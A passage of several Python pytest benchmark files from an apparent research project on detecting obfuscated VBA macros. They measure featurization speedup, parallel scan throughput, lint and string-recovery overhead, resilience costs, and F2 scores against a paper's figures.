            f"  batch {entry['batch_s']:.4f} s"
            f"  = {entry['speedup']}x"
            f"  ({entry['batch_rows_per_s']:.0f} rows/s)"
        )
    lines.append(
        f"worst speedup       : {worst}x  (required >= {MIN_SPEEDUP}x)"
    )
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact(
        "classify_batch.json", json.dumps(payload, indent=2, sort_keys=True)
    )

    assert worst >= MIN_SPEEDUP, text
    if previous is not None:
        floor = previous["batch_rows_per_s"] * REGRESSION_TOLERANCE
        assert payload["batch_rows_per_s"] >= floor, (
            f"batched scoring regressed >20%: {payload['batch_rows_per_s']} "
            f"rows/s vs committed {previous['batch_rows_per_s']}"
        )

    serving_detector = detectors[SERVING]
    benchmark.pedantic(
        lambda: proba_from_matrix(serving_detector, fleet),
        iterations=1,
        rounds=5,
    )
