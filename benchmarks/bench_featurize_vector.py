"""Batch-vectorized featurization vs the per-row loop (ISSUE 6 feature layer).

The V/J extractors are column-batch kernels over
:class:`~repro.vba.analyzer.AnalysisSummary` digests: one numpy pass per
feature group instead of one Python call per macro per feature.  This
bench pins down what that buys on a synthetic triage corpus:

* **kernel speedup** — ``FeatureSet.extract_matrix`` over the whole
  summary batch vs the same kernel driven one row at a time (the shape
  every pre-vectorization call site had).  Row-level parity is asserted
  by ``tests/features/test_batch_parity.py``; this file asserts the
  speed;
* **end-to-end throughput** — ``extract_matrices`` from raw sources
  (tokenize + summarize + vectorize), the number that bounds dataset
  builds and ``feature_matrices``-style fan-out.

Results land in ``benchmarks/results/featurize_vector.json``; if a
committed artifact is present the run fails on a >20% regression of
either throughput (the CI ``featurize-bench`` gate).

Environment knob: ``REPRO_BENCH_FEATURIZE_MACROS`` (corpus size,
default 300).
"""

from __future__ import annotations

import json
import os
import random
import time

import numpy as np
from conftest import RESULTS_DIR, save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.malicious import generate_malicious_macro
from repro.features import extract_matrices, get_feature_set
from repro.obfuscation.pipeline import default_pipeline
from repro.vba.analyzer import analyze

MACROS = int(os.environ.get("REPRO_BENCH_FEATURIZE_MACROS", "300"))
MIN_KERNEL_SPEEDUP = 2.0
REGRESSION_TOLERANCE = 0.8


def build_corpus(count: int) -> list[str]:
    """Benign / malicious / obfuscated macro sources, 2:1:1."""
    rng = random.Random(35)
    pipeline = default_pipeline()
    sources = [
        generate_benign_module(rng, target_length=rng.randint(300, 2000))
        for _ in range(count // 2)
    ]
    sources += [
        generate_malicious_macro(rng, "word") for _ in range(count // 4)
    ]
    sources += [
        pipeline.run(generate_malicious_macro(rng, "word"), seed=seed).source
        for seed in range(count - len(sources))
    ]
    return sources


def _previous_artifact() -> dict | None:
    path = RESULTS_DIR / "featurize_vector.json"
    if not path.exists():
        return None
    return json.loads(path.read_text())


def test_batch_kernels_beat_per_row_loop(benchmark):
    previous = _previous_artifact()
    sources = build_corpus(MACROS)
    summaries = [analyze(source).ensure_summary() for source in sources]
    sets = [get_feature_set("V"), get_feature_set("J")]

    # Per-row loop: the pre-vectorization call shape (one kernel
    # invocation per macro), timed over both feature sets.
    started = time.perf_counter()
    per_row = {
        fs.name: np.vstack(
            [fs.extract_matrix([summary]) for summary in summaries]
        )
        for fs in sets
    }
    per_row_s = time.perf_counter() - started

    started = time.perf_counter()
    batch = {fs.name: fs.extract_matrix(summaries) for fs in sets}
    batch_s = time.perf_counter() - started

    for name in ("V", "J"):
        assert np.array_equal(per_row[name], batch[name]), name
    kernel_speedup = per_row_s / batch_s if batch_s else float("inf")

    # End to end from raw sources: tokenize + summarize + both kernels.
    started = time.perf_counter()
    matrices = extract_matrices(sources, ("V", "J"))
    end_to_end_s = time.perf_counter() - started
    assert matrices["V"].shape == (len(sources), 15)
    assert matrices["J"].shape == (len(sources), 20)

    rows = len(sources)
    payload = {
        "macros": rows,
        "per_row_s": round(per_row_s, 4),
        "batch_s": round(batch_s, 4),
        "kernel_speedup": round(kernel_speedup, 2),
        "kernel_rows_per_s": round(rows / batch_s, 1),
        "end_to_end_s": round(end_to_end_s, 4),
        "end_to_end_rows_per_s": round(rows / end_to_end_s, 1),
    }
    text = (
        "FEATURIZE VECTOR — batch kernels vs per-row loop\n"
        f"corpus              : {rows} macros (V + J, 35 columns)\n"
        f"per-row loop        : {per_row_s:.4f} s  ({rows / per_row_s:.1f} rows/s)\n"
        f"batch kernels       : {batch_s:.4f} s  ({rows / batch_s:.1f} rows/s)\n"
        f"kernel speedup      : {kernel_speedup:.2f}x  (required >= {MIN_KERNEL_SPEEDUP}x)\n"
        f"end-to-end          : {end_to_end_s:.4f} s  ({rows / end_to_end_s:.1f} rows/s)\n"
    )
    print("\n" + text)
    save_artifact(
        "featurize_vector.json",
        json.dumps(payload, indent=2, sort_keys=True),
    )

    assert kernel_speedup >= MIN_KERNEL_SPEEDUP, text
    if previous is not None:
        for key in ("kernel_rows_per_s", "end_to_end_rows_per_s"):
            floor = previous[key] * REGRESSION_TOLERANCE
            assert payload[key] >= floor, (
                f"{key} regressed >20%: {payload[key]} vs "
                f"committed {previous[key]}"
            )

    benchmark.pedantic(
        lambda: [fs.extract_matrix(summaries) for fs in sets],
        iterations=1,
        rounds=5,
    )
