"""Engine batch throughput — parallel fan-out vs. sequential scanning.

Builds a fleet of synthetic macro documents (the mail-gateway workload the
ROADMAP targets) and drives ``AnalysisEngine.run_batch`` end to end
(extract → analyze → featurize → classify) at ``jobs=1`` and ``jobs=4``:

* the two runs must produce identical verdicts and scores (parity);
* on a multi-core host, ``jobs=4`` must beat ``jobs=1`` wall-clock.

All timing comes from the engine's own :class:`~repro.obs.MetricsRegistry`
(the ``span.batch`` histogram and the per-stage spans) — no ad-hoc
``time.perf_counter()`` bookkeeping, so the bench artifact and runtime
telemetry can never disagree.  Per-stage p50/p95 land in
``benchmarks/results/engine_stats.json``, the perf-trajectory baseline.

Environment knobs: ``REPRO_BENCH_DOCS`` (default 210 documents).
"""

from __future__ import annotations

import json
import os
import random

from conftest import registry_stage_stats, save_artifact

from repro import ObfuscationDetector
from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine
from repro.obfuscation.pipeline import default_pipeline
from repro.obs import MetricsRegistry

N_DOCS = int(os.environ.get("REPRO_BENCH_DOCS", "210"))
PARALLEL_JOBS = 4


def _available_cpus() -> int:
    try:
        return len(os.sched_getaffinity(0))
    except AttributeError:  # non-Linux
        return os.cpu_count() or 1


def build_fleet(n_docs: int) -> tuple[list[tuple[str, bytes]], list[str], list[int]]:
    """``n_docs`` single-macro documents, roughly one third obfuscated."""
    rng = random.Random(909)
    pipeline = default_pipeline()
    documents: list[tuple[str, bytes]] = []
    sources: list[str] = []
    labels: list[int] = []
    for index in range(n_docs):
        if index % 3 == 0:
            source = pipeline.run(
                generate_malicious_macro(rng, rng.choice(("word", "excel"))),
                seed=index,
            ).source
            labels.append(1)
        else:
            source = generate_benign_module(
                rng, target_length=rng.randint(400, 4000)
            )
            labels.append(0)
        sources.append(source)
        file_format = "docm" if index % 2 == 0 else "xlsm"
        documents.append(
            (f"doc_{index:04d}.{file_format}", build_document_bytes([source], file_format))
        )
    return documents, sources, labels


def _timed_batch(detector, documents, jobs: int):
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_scan(detector, metrics=registry)
    records = engine.run_batch(documents, jobs=jobs)
    # Wall-clock straight from the telemetry layer: the batch span.
    elapsed = registry.histogram("span.batch").sum
    return elapsed, records, registry, engine.cache_info()


def test_engine_batch_parallel_beats_serial(benchmark):
    documents, sources, labels = build_fleet(N_DOCS)
    assert len(documents) >= 200

    # Train once in the parent; workers receive the pickled detector.
    train_sources = sources[::2]
    train_labels = labels[::2]
    assert len(set(train_labels)) == 2
    detector = ObfuscationDetector("RF").fit(train_sources, train_labels)

    serial_time, serial_records, serial_registry, serial_cache = _timed_batch(
        detector, documents, jobs=1
    )
    parallel_time, parallel_records, parallel_registry, parallel_cache = (
        _timed_batch(detector, documents, jobs=PARALLEL_JOBS)
    )

    # Worker merge: the parallel registry must still see every document,
    # and cache accounting must agree between jobs=1 and jobs=N.
    for registry in (serial_registry, parallel_registry):
        assert registry.histogram("span.document").count == len(documents)
    assert serial_cache == parallel_cache

    # Parity: fan-out must not change a single score or verdict.
    assert all(record.ok for record in serial_records)
    assert [r.source_id for r in serial_records] == [
        r.source_id for r in parallel_records
    ]
    for a, b in zip(serial_records, parallel_records):
        assert [m.score for m in a.macros] == [m.score for m in b.macros]
        assert [m.verdict for m in a.macros] == [m.verdict for m in b.macros]

    flagged = sum(r.any_obfuscated for r in serial_records)
    cpus = _available_cpus()
    speedup = serial_time / parallel_time if parallel_time else float("inf")
    text = (
        "ENGINE BATCH — run_batch over synthetic gateway traffic\n"
        f"documents          : {len(documents)}\n"
        f"flagged obfuscated : {flagged}\n"
        f"available CPUs     : {cpus}\n"
        f"jobs=1 wall-clock  : {serial_time:.3f} s"
        f"  ({len(documents) / serial_time:.1f} docs/s)\n"
        f"jobs={PARALLEL_JOBS} wall-clock  : {parallel_time:.3f} s"
        f"  ({len(documents) / parallel_time:.1f} docs/s)\n"
        f"speedup            : {speedup:.2f}x\n"
    )
    print("\n" + text)
    save_artifact("engine_batch.txt", text)
    save_artifact(
        "engine_stats.json",
        json.dumps(
            {
                "documents": len(documents),
                "available_cpus": cpus,
                "throughput_docs_per_s": {
                    "jobs1": round(len(documents) / serial_time, 1),
                    f"jobs{PARALLEL_JOBS}": round(
                        len(documents) / parallel_time, 1
                    ),
                },
                "cache": serial_cache,
                "stages": {
                    "jobs1": registry_stage_stats(serial_registry),
                    f"jobs{PARALLEL_JOBS}": registry_stage_stats(
                        parallel_registry
                    ),
                },
            },
            indent=2,
            sort_keys=True,
        ),
    )

    if cpus >= 2:
        # The whole point of the batch layer: fan-out wins wall-clock.
        assert parallel_time < serial_time, text
    else:
        print("single-CPU host: speedup assertion skipped (pool adds overhead)")

    benchmark.pedantic(
        lambda: AnalysisEngine.for_scan(detector).run_batch(
            documents[:40], jobs=1
        ),
        iterations=1,
        rounds=3,
    )
