"""Shared fixtures for the benchmark harness.

Every table/figure bench draws from one session-scoped corpus → dataset →
experiment chain, so the whole suite builds the corpus and runs the 10-cell
cross-validation exactly once.

Environment knobs:

* ``REPRO_BENCH_SCALE`` — corpus scale relative to the paper's population
  (default 0.12; 1.0 regenerates the full 2,537-file corpus).
* ``REPRO_BENCH_FOLDS`` — CV folds (default 5; the paper uses 10).
* ``REPRO_BENCH_SEED`` — corpus seed (default 2016).

Rendered tables/figures are printed and also written to
``benchmarks/results/`` for inspection after a ``--benchmark-only`` run.
"""

from __future__ import annotations

import os
import pathlib

import pytest

from repro.corpus.builder import CorpusBuilder, paper_profile
from repro.pipeline.dataset import DatasetBuilder
from repro.pipeline.experiment import ExperimentRunner

RESULTS_DIR = pathlib.Path(__file__).parent / "results"

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "0.12"))
BENCH_FOLDS = int(os.environ.get("REPRO_BENCH_FOLDS", "5"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2016"))


def save_artifact(name: str, text: str) -> None:
    """Persist one rendered table/figure under benchmarks/results/."""
    RESULTS_DIR.mkdir(exist_ok=True)
    (RESULTS_DIR / name).write_text(text + "\n")


def registry_stage_stats(registry) -> dict:
    """Per-span p50/p95/total out of a metrics registry, JSON-ready.

    The shared shape for bench artifacts (``engine_stats.json``) — read
    from the same histograms the ``--stats`` CLI summary renders, so the
    two can never disagree.
    """
    from repro.obs import Histogram

    stats = {}
    for name, payload in registry.to_dict()["histograms"].items():
        if not name.startswith("span.") or not payload["count"]:
            continue
        histogram = Histogram.from_dict(payload)
        stats[name.removeprefix("span.")] = {
            "count": histogram.count,
            "p50_ms": round(histogram.percentile(0.5) * 1000, 3),
            "p95_ms": round(histogram.percentile(0.95) * 1000, 3),
            "total_s": round(histogram.sum, 4),
        }
    return stats


@pytest.fixture(scope="session")
def bench_profile():
    return paper_profile().scaled(BENCH_SCALE)


@pytest.fixture(scope="session")
def corpus(bench_profile):
    return CorpusBuilder(bench_profile, seed=BENCH_SEED).build()


@pytest.fixture(scope="session")
def dataset(corpus):
    return DatasetBuilder().build(corpus.documents, corpus.truth)


@pytest.fixture(scope="session")
def experiment_result(dataset):
    runner = ExperimentRunner(n_splits=BENCH_FOLDS, random_state=0)
    return runner.run(dataset)
