"""Extension — static de-obfuscation restores signature detectability.

For obfuscated macros from the corpus: run the de-obfuscation engine and
measure how many simulated AV vendors flag the macro before vs after.
The paper's premise (obfuscation evades signature AV) implies its inverse:
undoing the obfuscation brings detections back.
"""

from __future__ import annotations

import numpy as np
from conftest import save_artifact

from repro.avsim.virustotal import VirusTotalSim
from repro.deobfuscation import deobfuscate


def test_deobfuscation_signature_recovery(benchmark, dataset):
    scanner = VirusTotalSim()
    obfuscated = [
        s.source
        for s in dataset.samples
        if s.obfuscated and s.from_malicious
    ][:40]
    assert obfuscated

    before_counts, after_counts, parsed = [], [], 0
    folded_total = 0
    for source in obfuscated:
        outcome = deobfuscate(source)
        parsed += outcome.report.parsed
        folded_total += outcome.report.folded_expressions
        before_counts.append(scanner.scan([source]).detections)
        after_counts.append(scanner.scan([outcome.source]).detections)

    before = np.array(before_counts)
    after = np.array(after_counts)
    improved = int(np.sum(after > before))
    lines = [
        "EXTENSION: de-obfuscation vs simulated AV fleet",
        f"macros: {len(obfuscated)}  parsed: {parsed}  "
        f"expressions folded: {folded_total}",
        f"mean detections before: {before.mean():.1f}/60  "
        f"after: {after.mean():.1f}/60",
        f"macros with increased detections: {improved}/{len(obfuscated)}",
    ]
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("deobfuscation.txt", text)

    # De-obfuscation must never hide indicators, and should recover some.
    assert after.mean() >= before.mean()
    assert improved >= len(obfuscated) * 0.25

    sample = obfuscated[0]
    benchmark(lambda: deobfuscate(sample))
