"""Static string-recovery (repro.sa) — overhead gate on fleet traffic.

Two claims, benchmarked end to end:

* **recovery is affordable at fleet rates** — running the full lint
  pipeline with ``recover=True`` over fleet-shaped traffic (per 32
  documents: 1 novel macro — alternating benign and obfuscated — 3
  line-ending variants, 28 exact re-submissions) must cost less than
  15% wall-clock over the same traffic with recovery off.  The document
  cache coalesces re-submissions and the normalized-digest caches
  (feature rows and finished recoveries) coalesce the variants, so the
  folder only pays on the novel tail — exactly the economics a gateway
  deployment sees;
* **the adversarial floor holds** — the obfuscated half of the novel
  documents runs the real corpus obfuscator (split + encode), so the
  recover column includes genuine Chr/xor/hex decoding work, not just
  benign no-ops.

Results land in ``benchmarks/results/sa_overhead.json``; if a committed
artifact is present the run additionally fails on a >20% throughput
regression of the recover-on path against it.

Environment knobs: ``REPRO_BENCH_SA_GROUPS`` (fleet groups of 32 docs,
default 12).
"""

from __future__ import annotations

import json
import os
import random

from conftest import RESULTS_DIR, save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine
from repro.obfuscation.pipeline import default_pipeline
from repro.obs import MetricsRegistry

GROUPS = int(os.environ.get("REPRO_BENCH_SA_GROUPS", "12"))

#: The ISSUE 7 gate: recover-on wall-clock over recover-off wall-clock.
MAX_OVERHEAD_RATIO = 1.15

#: Allowed slowdown vs the committed artifact before the bench fails.
REGRESSION_TOLERANCE = 0.8

def build_fleet_mix(rng: random.Random, groups: int):
    """Fleet traffic: per 32 docs, 1 novel, 3 variants, 28 re-submissions.

    Novel sources alternate benign modules and obfuscated malicious
    macros so the recover stage sees real decoder chains, not only
    benign code it folds trivially.  The variants re-encode the novel
    source with the line-ending flavours ``normalize_source``
    canonicalizes (CRLF, lone CR, mixed) — distinct document bytes, one
    normalized digest, the shape a fleet sees when the same module
    arrives via OLE streams and pasted text feeds.
    """
    pipeline = default_pipeline()
    batch = []
    for group in range(groups):
        if group % 2 == 0:
            source = generate_benign_module(rng, target_length=400)
        else:
            plain = generate_malicious_macro(rng, rng.choice(("word", "excel")))
            source = pipeline.run(plain, seed=group).source
        crlf = source.replace("\n", "\r\n")
        lone_cr = source.replace("\n", "\r")
        mixed = source.replace("\n", "\r\n", 1)
        distinct = [
            build_document_bytes([source], "docm"),
            build_document_bytes([crlf], "docm"),
            build_document_bytes([lone_cr], "docm"),
            build_document_bytes([mixed], "docm"),
        ]
        resubmissions = [distinct[index % 4] for index in range(28)]
        for index, data in enumerate(distinct + resubmissions):
            batch.append((f"sa_fleet_{group:03d}_{index:02d}.docm", data))
    rng.shuffle(batch)
    return batch


def _drive(batch, *, recover: bool):
    """Serial (jobs=1) run of the lint pipeline; returns (elapsed_s, stats)."""
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_lint(metrics=registry, recover=recover)
    records = engine.run_batch(batch, jobs=1)
    assert len(records) == len(batch)  # N in, N out
    assert all(record.ok for record in records)
    elapsed = registry.histogram("span.batch").sum
    recovered = sum(
        len(macro.recovered_strings)
        for record in records
        for macro in record.macros
    )
    engine.close()
    return elapsed, {
        "docs": len(records),
        "elapsed_s": round(elapsed, 3),
        "docs_per_s": round(len(records) / elapsed, 1) if elapsed else 0.0,
        "strings_recovered": recovered,
    }


def _previous_artifact() -> dict | None:
    path = RESULTS_DIR / "sa_overhead.json"
    if not path.exists():
        return None
    return json.loads(path.read_text())


def test_recover_overhead_under_fleet_mix(benchmark):
    previous = _previous_artifact()
    rng = random.Random(2018)
    batch = build_fleet_mix(rng, GROUPS)

    # Interleave off/on runs so machine drift hits both sides equally.
    off_s, off_stats = _drive(batch, recover=False)
    on_s, on_stats = _drive(batch, recover=True)

    ratio = on_s / off_s if off_s else float("inf")
    text = (
        "SA OVERHEAD — recover-on vs recover-off, fleet mix, jobs=1\n"
        f"traffic            : {GROUPS} groups x 32 docs "
        "(1 novel / 3 variants / 28 resubmissions)\n"
        f"recover off        : {off_stats['elapsed_s']} s "
        f"({off_stats['docs_per_s']} docs/s)\n"
        f"recover on         : {on_stats['elapsed_s']} s "
        f"({on_stats['docs_per_s']} docs/s, "
        f"{on_stats['strings_recovered']} strings recovered)\n"
        f"overhead           : {ratio:.3f}x  (required < {MAX_OVERHEAD_RATIO}x)\n"
    )
    print("\n" + text)

    save_artifact(
        "sa_overhead.json",
        json.dumps(
            {
                "groups": GROUPS,
                "docs": off_stats["docs"],
                "jobs": 1,
                "recover_off": off_stats,
                "recover_on": on_stats,
                "overhead_ratio": round(ratio, 3),
                "max_overhead_ratio": MAX_OVERHEAD_RATIO,
            },
            indent=2,
            sort_keys=True,
        ),
    )

    assert on_stats["strings_recovered"] > 0, "recover pass folded nothing"
    assert ratio < MAX_OVERHEAD_RATIO, text

    if previous is not None and "recover_on" in previous:
        floor = previous["recover_on"]["docs_per_s"] * REGRESSION_TOLERANCE
        assert on_stats["docs_per_s"] >= floor, (
            f"recover path regressed >20%: {on_stats['docs_per_s']} docs/s "
            f"vs committed {previous['recover_on']['docs_per_s']}"
        )

    benchmark.pedantic(
        lambda: _drive(batch[: 2 * 32], recover=True), iterations=1, rounds=3
    )
