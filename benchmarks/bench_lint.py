"""Lint-stage throughput — rule sweep over a synthetic macro batch.

Builds a 500-macro batch (mixed benign and obfuscated, as documents) and
drives ``AnalysisEngine.for_lint().run_batch`` at ``jobs=1`` and
``jobs=4``:

* the two runs must produce identical findings (parity);
* the artifact records macros/s, findings volume, and the per-class
  split, so rule additions that tank throughput show up in review.

Wall-clock and per-stage splits come from the engine's own
:class:`~repro.obs.MetricsRegistry` (``span.batch`` / ``span.lint``),
not ad-hoc ``time.perf_counter()`` bookkeeping.

Environment knobs: ``REPRO_BENCH_LINT_MACROS`` (default 500).
"""

from __future__ import annotations

import os
import random

from conftest import registry_stage_stats, save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine
from repro.lint import count_by_class
from repro.obfuscation.pipeline import default_pipeline
from repro.obs import MetricsRegistry

N_MACROS = int(os.environ.get("REPRO_BENCH_LINT_MACROS", "500"))
PARALLEL_JOBS = 4


def _available_cpus() -> int:
    try:
        return len(os.sched_getaffinity(0))
    except AttributeError:  # non-Linux
        return os.cpu_count() or 1


def build_batch(n_macros: int) -> list[tuple[str, bytes]]:
    """``n_macros`` single-macro documents, roughly one third obfuscated."""
    rng = random.Random(4242)
    pipeline = default_pipeline()
    documents: list[tuple[str, bytes]] = []
    for index in range(n_macros):
        if index % 3 == 0:
            source = pipeline.run(
                generate_malicious_macro(rng, rng.choice(("word", "excel"))),
                seed=index,
            ).source
        else:
            source = generate_benign_module(
                rng, target_length=rng.randint(400, 4000)
            )
        documents.append(
            (f"macro_{index:04d}.docm", build_document_bytes([source], "docm"))
        )
    return documents


def _timed_lint(documents, jobs: int):
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_lint(metrics=registry)
    records = engine.run_batch(documents, jobs=jobs)
    return registry.histogram("span.batch").sum, records, registry


def _all_findings(records):
    return [
        [macro.findings for macro in record.macros] for record in records
    ]


def test_lint_batch_parallel_matches_serial(benchmark):
    documents = build_batch(N_MACROS)
    assert len(documents) >= 500 or N_MACROS < 500

    serial_time, serial_records, serial_registry = _timed_lint(documents, jobs=1)
    parallel_time, parallel_records, parallel_registry = _timed_lint(
        documents, jobs=PARALLEL_JOBS
    )

    # Worker registries merged back: the parallel run still accounts for
    # every document's lint span.
    assert (
        parallel_registry.histogram("span.lint").count
        == serial_registry.histogram("span.lint").count
    )

    # Parity: fan-out must not change a single finding.
    assert all(record.ok for record in serial_records)
    assert _all_findings(serial_records) == _all_findings(parallel_records)

    findings = [
        finding
        for record in serial_records
        for macro in record.macros
        for finding in macro.findings
    ]
    by_class = count_by_class(findings)
    flagged = sum(
        any(macro.findings for macro in record.macros)
        for record in serial_records
    )
    cpus = _available_cpus()
    speedup = serial_time / parallel_time if parallel_time else float("inf")
    text = (
        "LINT BATCH — rule sweep over synthetic macro traffic\n"
        f"macros               : {len(documents)}\n"
        f"macros with findings : {flagged}\n"
        f"total findings       : {len(findings)}\n"
        f"per class            : "
        + ", ".join(f"{oc} {n}" for oc, n in by_class.items())
        + "\n"
        f"available CPUs       : {cpus}\n"
        f"jobs=1 wall-clock    : {serial_time:.3f} s"
        f"  ({len(documents) / serial_time:.1f} macros/s)\n"
        f"jobs={PARALLEL_JOBS} wall-clock    : {parallel_time:.3f} s"
        f"  ({len(documents) / parallel_time:.1f} macros/s)\n"
        f"speedup              : {speedup:.2f}x\n"
    )
    lint_stats = registry_stage_stats(serial_registry).get("lint")
    if lint_stats:
        text += (
            f"lint stage p50/p95   : "
            f"{lint_stats['p50_ms']:.2f}ms / {lint_stats['p95_ms']:.2f}ms\n"
        )
    print("\n" + text)
    save_artifact("lint_batch.txt", text)

    if cpus >= 2:
        assert parallel_time < serial_time, text
    else:
        print("single-CPU host: speedup assertion skipped (pool adds overhead)")

    benchmark.pedantic(
        lambda: AnalysisEngine.for_lint().run_batch(documents[:50], jobs=1),
        iterations=1,
        rounds=3,
    )
