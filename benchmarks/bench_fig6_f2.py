"""Figure 6 — F₂ score per classifier per feature set.

The paper's headline figure: emphasizing recall (β = 2), the proposed V
features reach F₂ = 0.92 with MLP while the J baseline peaks at 0.69 with
RF.  This bench regenerates the bars and asserts the comparison direction.
"""

from __future__ import annotations

from conftest import save_artifact

from repro.ml.metrics import f2_score, fbeta_score
from repro.pipeline.reporting import render_fig6


def test_fig6_f2_comparison(benchmark, experiment_result):
    text = benchmark(render_fig6, experiment_result)
    print("\n" + text)
    save_artifact("fig6.txt", text)

    best_v = experiment_result.best_by_f2("V")
    best_j = experiment_result.best_by_f2("J")
    # Direction of the paper's headline: the V feature set wins on F2.
    assert best_v.f2 >= best_j.f2
    # Absolute level: the best V classifier is in the paper's range.
    assert best_v.f2 > 0.8
    # The best V classifier is one of the strong trio (paper: MLP).
    assert best_v.classifier in ("MLP", "RF", "SVM")


def test_f2_math_matches_pooled_predictions(experiment_result, benchmark):
    cell = experiment_result.cell("V", "RF")
    y_true = cell.cv.pooled_true
    y_pred = cell.cv.pooled_pred
    assert f2_score(y_true, y_pred) == cell.f2
    # β = 1 and β = 2 bracket sensibly.
    f1 = fbeta_score(y_true, y_pred, beta=1.0)
    assert abs(cell.f2 - f1) < 0.5

    benchmark(lambda: f2_score(y_true, y_pred))
