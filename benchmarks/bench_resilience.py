"""Resilience cost — budgets must be near-free, recovery must be bounded.

Two promises from the resilience layer, held to numbers:

* **budgets at defaults** — the document path with :data:`DEFAULT_BUDGET`
  (cooperative wall clock + size/volume caps, no watchdog threads) must
  stay within 5% of a budget-less engine, asserted on best-of-N rounds;
* **worker-crash recovery** — a batch carrying one poison document (chaos
  ``exit`` fault) must still return one record per input, and the
  recovery drill's wall clock, pool rebuilds, and retry counts are
  recorded for the artifact (rebuild cost is platform noise, so it is
  measured, not asserted).

The hard per-stage watchdog (``stage_timeout_s``) is measured too: it
spawns one thread per stage, so its overhead is reported alongside the
default-budget number rather than held to the 5% bar.

Environment knobs: ``REPRO_BENCH_RES_DOCS`` (default 24 documents),
``REPRO_BENCH_RES_ROUNDS`` (default 5).
"""

from __future__ import annotations

import os
import random
import time

from conftest import save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry
from repro.resilience import Budget, FaultPlan
from repro.resilience import recovery as recovery_module

N_DOCS = int(os.environ.get("REPRO_BENCH_RES_DOCS", "24"))
N_ROUNDS = int(os.environ.get("REPRO_BENCH_RES_ROUNDS", "5"))
MAX_BUDGET_OVERHEAD = 1.05  # default budget: < 5% over no budget at all


def build_documents(n_docs: int) -> list[tuple[str, bytes]]:
    rng = random.Random(4242)
    return [
        (
            f"doc_{index:03d}",
            build_document_bytes(
                [generate_benign_module(rng, target_length=rng.randint(400, 1500))],
                "docm",
            ),
        )
        for index in range(n_docs)
    ]


def _best_of(rounds: int, run) -> float:
    best = float("inf")
    for _ in range(rounds):
        start = time.perf_counter()
        run()
        best = min(best, time.perf_counter() - start)
    return best


def _engine(**kwargs) -> AnalysisEngine:
    # cache_size=0 so every timed round re-processes every document.
    return AnalysisEngine(feature_sets=("V",), cache_size=0, **kwargs)


def test_default_budget_is_near_free(benchmark):
    documents = build_documents(N_DOCS)
    bare = _engine(budget=None)
    budgeted = _engine()  # DEFAULT_BUDGET
    watchdog = _engine(budget=Budget(stage_timeout_s=10.0))

    for engine in (bare, budgeted, watchdog):  # warm lazy imports
        engine.run(documents[0])

    baseline = _best_of(
        N_ROUNDS, lambda: [bare.run(doc) for doc in documents]
    )
    with_budget = _best_of(
        N_ROUNDS, lambda: [budgeted.run(doc) for doc in documents]
    )
    with_watchdog = _best_of(
        N_ROUNDS, lambda: [watchdog.run(doc) for doc in documents]
    )

    budget_overhead = with_budget / baseline
    watchdog_overhead = with_watchdog / baseline
    text = (
        "RESILIENCE OVERHEAD — document path, best of "
        f"{N_ROUNDS} rounds x {len(documents)} documents\n"
        f"no budget          : {baseline:.3f} s"
        f"  ({len(documents) / baseline:.1f} docs/s)\n"
        f"default budget     : {with_budget:.3f} s"
        f"  ({budget_overhead:.3f}x baseline)\n"
        f"hard stage watchdog: {with_watchdog:.3f} s"
        f"  ({watchdog_overhead:.3f}x baseline)\n"
    )
    print("\n" + text)
    save_artifact("resilience_overhead.txt", text)

    assert budget_overhead < MAX_BUDGET_OVERHEAD, text

    benchmark.pedantic(
        lambda: [budgeted.run(doc) for doc in documents[:8]],
        iterations=1,
        rounds=3,
    )


def test_recovery_drill_cost(benchmark, monkeypatch):
    documents = build_documents(N_DOCS)
    poison_id = documents[N_DOCS // 2][0]
    sleeps: list[float] = []
    monkeypatch.setattr(recovery_module, "_sleep", sleeps.append)

    registry = MetricsRegistry()
    engine = AnalysisEngine.for_extraction(
        metrics=registry, chaos=FaultPlan.parse(f"exit:{poison_id}")
    )

    start = time.perf_counter()
    records = engine.run_batch(documents, jobs=2)
    elapsed = time.perf_counter() - start

    assert len(records) == len(documents)  # N in, N out under fire
    quarantined = [r for r in records if r.quarantine is not None]
    assert [r.source_id for r in quarantined] == [poison_id]

    counters = registry.to_dict()["counters"]
    text = (
        f"RECOVERY DRILL — {len(documents)} documents, jobs=2, one exit fault\n"
        f"wall clock        : {elapsed:.3f} s\n"
        f"pool failures     : {counters.get('resilience.pool_failures', 0)}\n"
        f"worker restarts   : {counters.get('stream.worker_restarts', 0)}\n"
        f"retries           : {counters.get('resilience.retries', 0)}\n"
        f"quarantined       : {counters.get('resilience.quarantined', 0)}\n"
        f"backoff requested : {sum(sleeps):.2f} s (skipped in the drill)\n"
    )
    print("\n" + text)
    save_artifact("resilience_recovery.txt", text)

    healthy = AnalysisEngine.for_extraction()
    benchmark.pedantic(
        lambda: healthy.run_batch(documents[:8], jobs=2),
        iterations=1,
        rounds=2,
    )
