"""Ablation — the 150-byte insignificant-macro filter (Section IV.B).

The paper drops macros under 150 bytes as "comments or practice code with
no particular purpose".  This bench sweeps the threshold and reports the
dataset size and RF F₂ at each setting.
"""

from __future__ import annotations

from conftest import BENCH_FOLDS, save_artifact

from repro.features.matrix import extract_features
from repro.ml.model_selection import cross_validate
from repro.pipeline.classifiers import make_classifier
from repro.pipeline.dataset import DatasetBuilder

THRESHOLDS = (0, 150, 400)


def test_min_length_ablation(benchmark, corpus):
    lines = [
        "ABLATION: minimum macro size filter, RF classifier",
        f"{'min bytes':>10} {'macros':>8} {'obfuscated':>11} {'F2':>7}",
    ]
    results = {}
    for threshold in THRESHOLDS:
        dataset = DatasetBuilder(min_macro_bytes=threshold).build(
            corpus.documents, corpus.truth
        )
        X = extract_features(dataset.sources, "V")
